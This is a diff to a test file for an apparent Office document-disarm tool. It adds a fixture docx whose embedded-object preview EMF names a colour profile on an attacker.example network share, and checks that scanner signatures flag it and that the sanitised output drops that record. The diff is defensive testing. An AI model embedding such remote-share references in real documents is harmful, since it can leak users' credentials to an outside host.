@@ -12,6 +12,7 @@ import { join, resolve } from 'node:path';
 import {
   ACTIVE_CONTENT_SIGNATURES,
   clamscanVerdicts,
+  buildEmf,
   buildImage,
   buildOdt,
   buildOfficeDocument,
@@ -32,6 +33,12 @@ beforeAll(async () => {
   execFileSync('bash', [join(REPO, 'scripts', 'ensure-system-deps.sh')], { stdio: 'ignore' });
   dir = await mkdtemp(join(tmpdir(), 'office-independent-'));
   await writeFile(join(dir, 'disarm.ndb'), ACTIVE_CONTENT_SIGNATURES);
+  await writeFile(
+    join(dir, 'metafile.ndb'),
+    ACTIVE_CONTENT_SIGNATURES.split('\n')
+      .filter((line) => line.startsWith('Disarm.Metafile.'))
+      .join('\n'),
+  );
   const png = await buildImage('png', { width: 24, height: 24 });
   const texts = ['Quarterly numbers are up', 'Second paragraph'];
   // A pivot table's heading and items, its source column.
@@ -51,6 +58,18 @@ beforeAll(async () => {
       }),
     ],
     ['ole.docx', await buildOfficeDocument('docx', { texts, oleObject: true, image: png })],
+    [
+      // The object's preview as Word writes it, an EMF that names a colour profile on a share.
+      'ole-preview.docx',
+      await buildOfficeDocument('docx', {
+        texts,
+        oleObject: true,
+        olePreview: {
+          kind: 'emf',
+          bytes: buildEmf({ emfPlus: 'dual', iccProfile: '\\\\attacker.example\\share\\x.icc' }),
+        },
+      }),
+    ],
     ['vba-book.xlsm', await buildOfficeDocument('xlsm', { texts, vba: true })],
     ['xlm-book.xlsm', await buildOfficeDocument('xlsm', { texts, macroSheet: true })],
     ['dde-formula.xlsx', await buildOfficeDocument('xlsx', { texts, dde: true })],
@@ -222,6 +241,17 @@ describe('Office and ODT outputs, as independent readers see them', () => {
     }
     for (const name of BENIGN) expect(inputs[name], `input ${name}`).toBe('OK');
     expect(inputs['vba.docm']).toMatch(/^Heuristics\.OLE2\.ContainsMacros/);
+    // The preview picture is kept; the record naming a profile on a share is not.
+    expect(clamscanVerdicts(join(dir, 'in'), join(dir, 'metafile.ndb'))['ole-preview.docx']).toBe(
+      'Disarm.Metafile.ShareProfile.UNOFFICIAL',
+    );
+    expect(clamscanVerdicts(join(dir, 'out'), join(dir, 'metafile.ndb'))['ole-preview.docx']).toBe(
+      'OK',
+    );
+    const members = execFileSync('unzip', ['-Z1', join(dir, 'out', 'ole-preview.docx')], {
+      encoding: 'utf8',
+    });
+    expect(members).toMatch(/^word\/media\/oleObject1\.emf$/m);
   });
 
   it('LibreOffice converts every output, and its text is the input text', async () => {
@@ -242,6 +272,13 @@ describe('Office and ODT outputs, as independent readers see them', () => {
                 ?.replace('QuarterlyCount', 'Row LabelCount')
                 .replace('Total Res', 'Grand Tot')
             : before[name];
+      if (name === 'ole-preview.docx') {
+        // LibreOffice cannot load the input's object and draws nothing for it; the rebuilt
+        // document shows the object's preview picture instead, whose caption is drawn as text.
+        expect(after[name]?.startsWith(expected ?? '-'), name).toBe(true);
+        expect(after[name]?.replace(/\s/g, ''), name).toContain('Quarterlyreport.xlsx');
+        continue;
+      }
       expect(after[name], name).toBe(expected);
     }
   }, 600_000);
